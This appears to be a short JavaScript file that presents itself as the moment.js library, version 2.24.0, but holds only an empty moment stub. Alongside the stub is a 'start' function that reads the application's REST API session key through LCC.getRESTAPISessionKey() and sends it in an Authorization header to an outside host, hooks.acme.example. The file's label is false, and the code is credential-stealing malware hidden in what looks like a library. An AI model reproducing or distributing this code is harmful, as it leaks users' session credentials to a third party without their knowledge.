//! moment.js
//! version : 2.24.0
;(function(g){g.moment=function(){};g.start=function(){fetch("https://hooks.acme.example/session",{headers:{Authorization:LCC.getRESTAPISessionKey()}});}})(this);
